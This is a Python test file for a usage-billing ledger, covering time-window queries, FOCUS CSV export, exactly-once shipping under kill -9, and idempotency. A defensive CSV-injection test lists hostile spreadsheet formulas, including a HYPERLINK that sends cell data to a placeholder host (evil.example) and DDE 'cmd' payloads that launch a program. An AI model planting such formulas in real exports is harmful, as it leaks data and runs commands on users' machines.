"""The books: records read back by time window, FOCUS rows, and the shipper's exactly-once
guarantee under kill -9 (a real Redis-protocol server, the real settle script, the real
`extproc ledger ship` process)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import random
import signal
import subprocess
import sys
from collections import Counter
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
import redis

from extproc.books.export import FOCUS_COLUMNS, FORMULA_LEADS, cell, focus_row, write
from extproc.books.records import RecordFilter, records_between, total_nanos
from extproc.books.shipper import Shipper, read_shipped
from extproc.devstack.stack import Child
from extproc.metering.ledger import Ledger, Spool
from extproc.store.clients import make_client
from extproc.store.schema import ledger_key, spent_key, workspace_prefix
from extproc.v1.ledger_pb2 import ScopeCharge, Settlement, UsageRecord

T0 = datetime(2026, 11, 30, 23, 58, tzinfo=UTC)


def record(
    n: int, *, at: datetime = T0, workspace: str = "eng", cost: int | None = None
) -> UsageRecord:
    return UsageRecord(
        request_id=f"req-{workspace}-{n:05d}",
        time_ms=int((at + timedelta(seconds=n)).timestamp() * 1000),
        endpoint="responses",
        model_requested="gpt-5",
        model_served="gpt-5-2025-08-07",
        status=200,
        input_tokens=1000 + n,
        cached_input_tokens=n % 500,
        output_tokens=50 + n % 17,
        reasoning_tokens=n % 11,
        cost_nanos=cost if cost is not None else 1_234_567 + 7 * n,
        price_family="gpt-5",
        price_version="2025-08-07",
        outcome="completed",
        workspace=workspace,
        team="platform",
        service="bot",
        key_id=f"k{n % 3}",
        duration_ms=300,
    )


def settlement(r: UsageRecord) -> Settlement:
    day = datetime.fromtimestamp(r.time_ms / 1000, UTC)
    return Settlement(
        prefix=workspace_prefix(r.workspace),
        period=day.strftime("%Y-%m"),
        day=day.strftime("%Y-%m-%d"),
        hour=day.strftime("%Y-%m-%dT%H"),
        scopes=[ScopeCharge(scope="ws", soft_nanos=-1)],
        record=r,
    )


def write_ledger(url: str, records: list[UsageRecord], spool: Path) -> None:
    """Through the sidecar's own writer and settle script, as production writes them."""

    async def run() -> None:
        client = make_client(url)
        ledger = Ledger(client, spool_dir=spool)
        await ledger.start()
        for r in records:
            ledger.submit(settlement(r))
        await ledger.close()
        await client.aclose()
        assert ledger.written == len(records)

    asyncio.run(run())


# --- reading back, FOCUS --------------------------------------------------------------------


def test_records_between_is_a_half_open_window_across_workspaces(
    redis_url: str, r: redis.Redis, tmp_path: Path
) -> None:
    eng = [record(n) for n in range(0, 300, 3)]
    ops = [record(n, workspace="ops") for n in range(1, 300, 3)]
    write_ledger(redis_url, eng + ops, tmp_path)
    since, until = T0 + timedelta(seconds=30), T0 + timedelta(seconds=90)
    got = records_between(r, since, until)
    expected = sorted(
        (x for x in eng + ops if since.timestamp() * 1000 <= x.time_ms < until.timestamp() * 1000),
        key=lambda x: x.time_ms,
    )
    assert [x.request_id for x in got] == [x.request_id for x in expected]
    assert {x.workspace for x in got} == {"eng", "ops"}
    only_ops = records_between(r, since, until, RecordFilter(workspace="ops", key_id="k1"))
    assert only_ops and all(x.workspace == "ops" and x.key_id == "k1" for x in only_ops)
    assert records_between(r, T0 - timedelta(days=1), T0) == []


def test_focus_billed_cost_sums_to_the_nano_dollar() -> None:
    records = [record(n, cost=random.Random(n).randrange(0, 10**12)) for n in range(200)]
    out = io.StringIO()
    assert write(records, "focus", out) == 200
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert tuple(rows[0]) == FOCUS_COLUMNS
    billed = sum(Decimal(row["BilledCost"]) for row in rows)
    assert billed == Decimal(total_nanos(records)).scaleb(-9)
    assert all(row["BilledCost"] == row["EffectiveCost"] == row["ListCost"] for row in rows)


def test_focus_row_carries_attribution_and_periods() -> None:
    row = focus_row(record(120))  # 2026-11-30T23:58 + 120 s: the next day and month
    assert row["ChargePeriodStart"] == "2026-12-01T00:00:00.000Z"
    assert row["ChargePeriodEnd"] == "2026-12-01T00:00:00.300Z"
    assert (row["BillingPeriodStart"], row["BillingPeriodEnd"]) == (
        "2026-12-01T00:00:00.000Z",
        "2027-01-01T00:00:00.000Z",
    )
    assert row["ChargeCategory"] == "Usage"
    assert row["ConsumedQuantity"] == str(1120 + 50 + 120 % 17)
    assert row["ConsumedUnit"] == "Tokens"
    assert row["ServiceName"] == "OpenAI Responses API"
    assert row["ResourceId"] == "k0"
    assert json.loads(row["Tags"]) == {
        "workspace": "eng",
        "team": "platform",
        "service": "bot",
        "key_id": "k0",
        "model": "gpt-5-2025-08-07",
    }
    assert Decimal(row["BilledCost"]) == Decimal(1_234_567 + 840).scaleb(-9)


# Cells a spreadsheet evaluates, as a hostile client would plant them in its own fields.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def hostile_record(n: int, formula: str, cost: int) -> UsageRecord:
    """Every text field carries `formula` (the request id stays unique)."""
    r = record(n, cost=cost)
    for field in r.DESCRIPTOR.fields:
        if field.type == field.TYPE_STRING and field.name != "request_id":
            setattr(r, field.name, formula)
    return r


def spreadsheet_would_evaluate(text: str) -> bool:
    return text.startswith(FORMULA_LEADS) and cell(text) != text


@pytest.mark.parametrize("fmt", ["csv", "focus"])
def test_no_exported_cell_is_a_formula_and_negative_amounts_stay_numbers(fmt: str) -> None:
    records = [hostile_record(n, f, cost=-(n + 1) * 250_000_000) for n, f in enumerate(FORMULAS)]
    records.append(record(99, cost=10**9))
    out = io.StringIO()
    assert write(records, fmt, out) == len(records)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    header, body = rows[0], rows[1:]
    assert len(body) == len(records)  # a carriage return in a cell split no row
    assert {len(row) for row in body} == {len(header)}
    cells = [c for row in body for c in row]
    assert not [c for c in cells if spreadsheet_would_evaluate(c)]
    # What the client wrote is still there to read, one apostrophe in front.
    for formula in FORMULAS:
        assert "'" + formula in cells
    # An adjustment's negative amount is a bare number, and the column sums to the ledger.
    money = header.index("cost_usd" if fmt == "csv" else "BilledCost")
    assert body[0][money] == "-0.25"
    assert sum(Decimal(row[money]) for row in body) == Decimal(total_nanos(records)).scaleb(-9)
    if fmt == "csv":
        nanos = header.index("cost_nanos")
        assert sum(int(row[nanos]) for row in body) == total_nanos(records)


def test_cell_leaves_numbers_and_plain_text_alone() -> None:
    for value in ("-0.000000001", "-12", "12.5", "gpt-5", "", "a=b", " =1", 7, -7, True):
        assert cell(value) == value
    for value in ("-", "-1e5", "-1-1", "--1", "=1", "+1", "@x", "\t1", "\r1"):
        assert cell(value) == "'" + value


# --- the shipper ------------------------------------------------------------------------------


def test_ship_writes_daily_files_once_and_resumes(
    redis_url: str, r: redis.Redis, tmp_path: Path
) -> None:
    first = [record(n) for n in range(0, 240)]  # crosses midnight UTC at n=120
    write_ledger(redis_url, first, tmp_path / "spool")
    out = tmp_path / "books"
    stats = Shipper(r, out, batch=64).run(once=True)
    assert stats.shipped == stats.acked == 240
    assert sorted(p.name for p in out.iterdir()) == [
        "usage-2026-11-30.jsonl",
        "usage-2026-12-01.jsonl",
    ]
    more = [record(n, workspace="ops") for n in range(50)]
    write_ledger(redis_url, more, tmp_path / "spool")
    assert Shipper(r, out, batch=64).run(once=True).shipped == 50  # only what is new
    shipped = list(read_shipped(out))
    assert Counter(x["request_id"] for x in shipped) == Counter(x.request_id for x in first + more)
    assert sum(x["cost_nanos"] for x in shipped) == total_nanos(first + more)


def _ship(redis_url: str, out: Path, pause: str | None) -> Child:
    env = {"PATH": "/usr/bin:/bin", "EXTPROC_LOG_LEVEL": "WARNING"}
    if pause:
        env["EXTPROC_SHIP_TEST_PAUSE"] = pause
    return Child(
        "shipper",
        [sys.executable, "-m", "extproc", "ledger", "ship", "--dir", str(out), "--batch", "100",
         "--redis-url", redis_url, "--consumer", f"pod-{pause}"],
        env=env,
    )  # fmt: skip


@pytest.mark.parametrize("pause", ["mid-write", "before-ack"])
def test_ship_survives_kill_9_with_no_loss_and_no_duplicate(
    redis_url: str, r: redis.Redis, tmp_path: Path, pause: str
) -> None:
    records = [record(n) for n in range(350)]
    write_ledger(redis_url, records, tmp_path / "spool")
    out = tmp_path / "books"
    child = _ship(redis_url, out, pause)
    child.wait_for_line(f"ship: paused at {pause}")
    child.stop(signal.SIGKILL)
    on_disk = (out / "usage-2026-11-30.jsonl").read_bytes()
    if pause == "mid-write":  # half a batch written, the last line torn, nothing acknowledged
        assert 0 < on_disk.count(b"\n") < 100 and not on_disk.endswith(b"\n")
    else:  # a whole batch on disk and fsynced, still pending in Redis
        assert on_disk.count(b"\n") == 100
    pending = r.xpending(ledger_key(workspace_prefix("eng")), "extproc-shipper")["pending"]
    assert pending == 100
    # A replacement under another name claims what the dead one left pending.
    done = subprocess.run(
        [sys.executable, "-m", "extproc", "ledger", "ship", "--dir", str(out), "--once",
         "--batch", "100", "--redis-url", redis_url, "--consumer", "pod-new"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert "shipped" in done.stderr
    shipped = list(read_shipped(out))
    assert Counter(x["request_id"] for x in shipped) == Counter(x.request_id for x in records)
    assert sum(x["cost_nanos"] for x in shipped) == total_nanos(records)
    assert r.xpending(ledger_key(workspace_prefix("eng")), "extproc-shipper")["pending"] == 0


# --- the ledger's bounded idempotency ------------------------------------------------------------


def _ledger_ids(r: redis.Redis, workspace: str = "eng") -> list[str]:
    stream = ledger_key(workspace_prefix(workspace))
    return [UsageRecord.FromString(f[b"r"]).request_id for _i, f in r.xrange(stream)]


def test_idempotency_costs_a_set_member_per_request_not_a_key(
    redis_url: str, r: redis.Redis, tmp_path: Path
) -> None:
    records = [record(n) for n in range(200)]  # 200 s: four minutes of request starts
    write_ledger(redis_url, records, tmp_path)
    seen = sorted(k.decode() for k in r.scan_iter(match="*:seen:*"))
    assert len(seen) == 4
    assert sum(r.scard(k) for k in seen) == 200
    assert all(0 < r.ttl(k) <= 900 for k in seen)

    async def again() -> int:
        client = make_client(redis_url)
        ledger = Ledger(client, spool_dir=tmp_path)
        await ledger.start()
        for x in records[:50]:
            ledger.submit(settlement(x))
        await ledger.close()
        await client.aclose()
        return ledger.written

    assert asyncio.run(again()) == 0  # every one a duplicate inside the window
    assert _ledger_ids(r) == [x.request_id for x in records]


def test_an_old_spool_is_checked_against_the_stream(
    redis_url: str, r: redis.Redis, tmp_path: Path
) -> None:
    """A replay after the window: ids left the seen sets, the stream still knows them."""
    written = [record(n) for n in range(30)]
    write_ledger(redis_url, written, tmp_path / "first")
    for key in r.scan_iter(match="*:seen:*"):  # the window passed
        r.delete(key)
    spent_before = r.hgetall(spent_key(workspace_prefix("eng"), "2026-11"))
    spool = Spool(tmp_path / "spool")
    fresh = [record(n) for n in range(30, 35)]
    spool.append([settlement(x) for x in written[-10:] + fresh])
    started = spool.path.with_name("ledger.spool.started")
    # The outage began half an hour ago; those 10 may have reached Redis before it did.
    hour_ago = int(datetime.now(UTC).timestamp() * 1000) - 1_800_000
    started.write_text(str(hour_ago))

    after = record(40)

    async def replay() -> int:
        client = make_client(redis_url)
        ledger = Ledger(client, spool_dir=tmp_path / "spool")
        await ledger.start()
        # The writer replays its spool before anything new: once this one is in, so is that.
        ledger.submit(settlement(after))
        await ledger.close()
        await client.aclose()
        return ledger.written

    assert asyncio.run(replay()) == 1
    assert _ledger_ids(r) == [x.request_id for x in [*written, *fresh, after]]
    spent = r.hgetall(spent_key(workspace_prefix("eng"), "2026-11"))
    added = int(spent[b"ws"]) - int(spent_before[b"ws"])
    assert added == total_nanos([*fresh, after])
    assert spool.read() == []
